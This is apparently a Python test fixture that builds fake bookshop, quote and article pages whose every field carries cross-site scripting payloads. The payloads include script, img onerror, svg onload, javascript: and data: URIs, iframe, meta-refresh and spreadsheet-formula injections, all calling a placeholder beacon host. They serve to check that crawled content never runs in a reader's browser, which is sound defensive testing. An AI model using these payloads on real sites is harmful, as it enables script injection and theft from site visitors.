"""Pages whose every field tries to act in the browser of whoever reads what was crawled.

At /xss/<port>/: `port` is where a beacon listens on this machine, which must never be asked.
"""

import html

from tests.site.answers import answer, page
from tests.site.book_data import Book
from tests.site.books import shop_pages

# BEACON stands for the beacon's address. Short ones, for fields that hold no more.
PAYLOADS = {
    "script": "<script src=http://BEACON/a></script>",
    "image": "\"'><img src=http://BEACON/b onerror=fetch('http://BEACON/c')>",
    "svg": "<svg onload=fetch('http://BEACON/d')>",
    "javascript": "javascript:fetch('http://BEACON/e')//",
    "data": "data:text/html,<script src=http://BEACON/f></script>",
    "closing": "</script><script>fetch('http://BEACON/g')</script>",
    "template": "{{ request.user.password }}{% debug %}${7*7}",
    "turned": "\u202egpj.exe\u2066\u200b<b onclick=fetch('http://BEACON/h')>x",
    "style": "</title><style>@import 'http://BEACON/i'</style>",
    "frame": "--><iframe src=http://BEACON/j></iframe>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://BEACON/k'>",
    "formula": '=HYPERLINK("http://BEACON/l")',
}
LONG = "very <b>long</b> " * 300  # about 5,000 characters


def respond(site, request):
    """Answer a path below /xss/<port>/."""
    port = request.parts[1]
    path = request.path.partition(f"/xss/{port}/")[2]
    made = _pages(f"127.0.0.1:{port}", f"/xss/{port}")
    return made.get(path) or answer(page("Not found", "<h1>404</h1>"), status=404)


def armed(beacon):
    """Return the payloads aimed at a beacon: name → text."""
    return {name: text.replace("BEACON", beacon) for name, text in PAYLOADS.items()}


def _pages(beacon, root):
    shop = {f"books/{path}": body for path, body in shop_pages(list(_books(beacon))).items()}
    return shop | _quotes(beacon, root) | _articles(beacon)


def _books(beacon):
    for number, (name, text) in enumerate([*armed(beacon).items(), ("long", LONG)]):
        yield Book(
            number=number,
            slug=name,
            title=text,
            upc=f"{number} {text[:50]}",
            price="£10.00",
            availability=text[:150],
            rating="Two",
            description=f"{text} {LONG}",
            category=f"{name} {text[:150]}",
            image=f"media/{name}.png",
        )


def _quotes(beacon, root):
    texts = armed(beacon)
    tags = "".join(f"<a class='tag'>{html.escape(text)}</a>" for text in texts.values())
    said = "".join(
        QUOTE.format(text=html.escape(text), root=root, name=name, tags=tags)
        for name, text in texts.items()
    )
    authors = {
        f"quotes/author/{name}/": answer(page(name, AUTHOR.format(text=html.escape(text))))
        for name, text in texts.items()
    }
    return {"quotes/": answer(page("Quotes", said)), **authors}


def _articles(beacon):
    texts = armed(beacon)
    links = "".join(f"<a href='{name}.html'>x</a>" for name in texts)
    articles = {f"site/{name}.html": answer(_article(text, links)) for name, text in texts.items()}
    return {"site/": answer(page("Site", links)), **articles}


def _article(text, links):
    said = html.escape(text)
    return ARTICLE.format(text=said, links=links, language=html.escape(text[:30]))


QUOTE = """<div class="quote"><span class="text">“{text}”</span>
<span>by <small class="author">{text}</small>
<a href="{root}/quotes/author/{name}/">(about)</a></span>
<div class="tags">{tags}</div></div>"""
AUTHOR = """<div class="author-details"><h3 class="author-title">{text}</h3>
<p>Born: <span class="author-born-date">March 01, 1900</span>
<span class="author-born-location">in {text}</span></p>
<div class="author-description">{text}</div></div>"""
ARTICLE = """<!doctype html><html lang="{language}"><head><title>{text}</title>
<meta name="description" content="{text}"></head><body><h1>{text}</h1><p>{text}</p>
<a href="javascript:alert(1)">x</a>{links}</body></html>"""
